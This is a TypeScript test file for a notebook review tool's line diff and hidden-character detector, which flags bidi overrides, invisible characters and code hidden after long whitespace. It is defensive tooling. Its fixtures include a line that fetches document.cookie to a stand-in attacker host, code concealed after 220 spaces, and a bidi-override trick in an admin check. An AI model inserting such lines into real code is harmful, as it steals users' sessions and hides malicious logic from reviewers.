import { describe, expect, it } from 'vitest';
import {
  LONG_INDENT,
  LONG_SPACE_RUN,
  MAX_DIFF_CELLS,
  describeHidden,
  diffLines,
  findHidden,
  hiddenKind,
  segmentSource,
  summarize,
  visibleSegments,
  type DiffLine,
} from '../../../src/widgets/notebook/review';

/** The diff as `  line` / `+ line` / `- line`. */
const show = (d: DiffLine[]) => d.map((l) => `${l.op === 'add' ? '+' : l.op === 'del' ? '-' : ' '} ${l.text}`);
const before = (d: DiffLine[]) => d.filter((l) => l.op !== 'add').map((l) => l.text).join('\n');
const after = (d: DiffLine[]) => d.filter((l) => l.op !== 'del').map((l) => l.text).join('\n');

describe('line diff', () => {
  it('marks added, removed and unchanged lines, with line numbers on each side', () => {
    const d = diffLines('a\nb\nc\nd', 'a\nB\nc\nd\ne');
    expect(show(d)).toEqual(['  a', '- b', '+ B', '  c', '  d', '+ e']);
    expect(d[2]).toEqual({ op: 'add', text: 'B', newNo: 2 });
    expect(d[1]).toEqual({ op: 'del', text: 'b', oldNo: 2 });
    expect(d[5]).toEqual({ op: 'add', text: 'e', newNo: 5 });
    expect(d[4]).toEqual({ op: 'same', text: 'd', oldNo: 4, newNo: 4 });
    expect(summarize(d)).toEqual({ added: 2, removed: 1, unchanged: 3 });
  });

  it('finds a payload inserted among unchanged lines', () => {
    const orig = Array.from({ length: 30 }, (_, i) => `const v${i} = ${i};`).join('\n');
    const lines = orig.split('\n');
    lines.splice(17, 0, "fetch('https://evil.example/?' + document.cookie);");
    const d = diffLines(orig, lines.join('\n'));
    expect(d.filter((l) => l.op !== 'same')).toEqual([{ op: 'add', text: "fetch('https://evil.example/?' + document.cookie);", newNo: 18 }]);
    expect(summarize(d)).toEqual({ added: 1, removed: 0, unchanged: 30 });
  });

  it('marks a line changed only by trailing content or an invisible character', () => {
    const d = diffLines('x = 1;\ny = 2;', `x = 1;${' '.repeat(220)}fetch(u)\ny = 2;`);
    expect(d.map((l) => l.op)).toEqual(['del', 'add', 'same']);
    expect(diffLines('ok', 'o\u200bk').map((l) => l.op)).toEqual(['del', 'add']);
  });

  it('always reproduces both sides, on identical, empty and reordered inputs', () => {
    const cases: [string, string][] = [
      ['', ''],
      ['', 'a'],
      ['a', ''],
      ['same\ncode', 'same\ncode'],
      ['a\nb\nc\nd\ne', 'e\nd\nc\nb\na'],
      ['x\nx\nx', 'x\ny\nx\nx\ny'],
      ['a\r\nb', 'a\nb'],
    ];
    for (const [a, b] of cases) {
      const d = diffLines(a, b);
      expect(before(d)).toBe(a);
      expect(after(d)).toBe(b);
    }
    expect(diffLines('same\ncode', 'same\ncode').every((l) => l.op === 'same')).toBe(true);
    // A minimal diff: one common line kept out of the reversal, others replaced.
    expect(summarize(diffLines('a\nb\nc\nd\ne', 'e\nd\nc\nb\na')).unchanged).toBe(1);
  });

  it('falls back to remove-all-then-add for huge changed blocks, still reproducing both sides', () => {
    const n = Math.ceil(Math.sqrt(MAX_DIFF_CELLS)) + 10;
    const a = ['head', ...Array.from({ length: n }, (_, i) => `a${i}`), 'tail'].join('\n');
    const b = ['head', ...Array.from({ length: n }, (_, i) => `b${i}`), 'tail'].join('\n');
    const d = diffLines(a, b);
    expect(before(d)).toBe(a);
    expect(after(d)).toBe(b);
    expect(summarize(d)).toEqual({ added: n, removed: n, unchanged: 2 });
  });
});

describe('visible characters', () => {
  it('classifies bidi controls, invisible characters and controls, and leaves ordinary text, tab and newline alone', () => {
    for (const cp of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c]) expect(hiddenKind(cp)).toBe('bidi');
    for (const cp of [0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0xfeff, 0x00ad, 0x2060, 0x0d, 0x0b, 0x0c, 0x00, 0x1b, 0x7f, 0x85, 0xa0, 0x3164, 0xfe0f, 0xe0041, 0xe0100])
      expect(hiddenKind(cp), cp.toString(16)).toBe('invisible');
    for (const ch of ['a', ' ', '\t', '\n', 'ᾱ', 'ε', '🎲', '√', '→', 'é', '中', 'ا']) expect(hiddenKind(ch.codePointAt(0)!), ch).toBeNull();
  });

  it('shows a right-to-left override as an escape and gives the line back', () => {
    const line = "if (role !== 'admin\u202e \u2066// check\u2069 \u2066') {";
    const segs = visibleSegments(line);
    const labels = segs.filter((s) => s.kind === 'char').map((s) => s.kind === 'char' && s.label);
    expect(labels).toEqual(['⟨U+202E⟩', '⟨U+2066⟩', '⟨U+2069⟩', '⟨U+2066⟩']);
    const rlo = segs.find((s) => s.kind === 'char');
    expect(rlo).toMatchObject({ hidden: 'bidi', name: 'RIGHT-TO-LEFT OVERRIDE' });
    expect(segs.map(segmentSource).join('')).toBe(line);
    // No hidden character survives in the text shown.
    expect(segs.filter((s) => s.kind === 'text').some((s) => s.kind === 'text' && /[\u202a-\u202e\u2066-\u2069]/.test(s.text))).toBe(false);
  });

  it('marks code placed after a long run of spaces, and trailing blanks; keeps ordinary spacing', () => {
    const line = `x = 1;${' '.repeat(220)}fetch('https://evil.example')`;
    const segs = visibleSegments(line);
    expect(segs).toEqual([
      { kind: 'text', text: 'x = 1;' },
      { kind: 'space', count: 220, trailing: false, label: '⟶ 220 spaces', blanks: ' '.repeat(220) },
      { kind: 'text', text: "fetch('https://evil.example')" },
    ]);
    expect(visibleSegments('const a = 1;   ')).toEqual([
      { kind: 'text', text: 'const a = 1;' },
      { kind: 'space', count: 3, trailing: true, label: '⟶ 3 trailing spaces', blanks: '   ' },
    ]);
    expect(visibleSegments('ok\t').at(-1)).toMatchObject({ label: '⟶ 1 trailing tab' });
    expect(visibleSegments(`a${' \t'.repeat(LONG_SPACE_RUN)}b`)[1]).toMatchObject({ kind: 'space', label: `⟶ ${2 * LONG_SPACE_RUN} spaces and tabs` });
    // Indentation and short gaps stay as they are.
    expect(visibleSegments('    if (a) {  b();  }')).toEqual([{ kind: 'text', text: '    if (a) {  b();  }' }]);
    expect(visibleSegments(`${' '.repeat(LONG_SPACE_RUN + 1)}deep();`)).toEqual([{ kind: 'text', text: `${' '.repeat(LONG_SPACE_RUN + 1)}deep();` }]);
    expect(visibleSegments(`${' '.repeat(LONG_INDENT)}far();`)[0]).toMatchObject({ kind: 'space', count: LONG_INDENT, trailing: false });
    expect(visibleSegments('')).toEqual([]);
  });

  it('finds and locates hidden characters in a whole cell, and describes them', () => {
    const code = 'const a = 1;\nconst b\u200b = 2; // \u202e\nok\r\nfine';
    const r = findHidden(code);
    expect(r).toMatchObject({ bidi: 1, invisible: 2, total: 3 });
    expect(r.first.map((h) => [h.line, h.column, h.label])).toEqual([
      [2, 8, '⟨U+200B⟩'],
      [2, 18, '⟨U+202E⟩'],
      [3, 3, '⟨U+000D⟩'],
    ]);
    expect(describeHidden(r)).toBe('1 bidi control character and 2 invisible characters');
    expect(findHidden('plain code\n\tshow(x)').total).toBe(0);
    expect(findHidden('\u200b'.repeat(10), 3)).toMatchObject({ invisible: 10, total: 10 });
    expect(findHidden('\u200b'.repeat(10), 3).first).toHaveLength(3);
  });
});
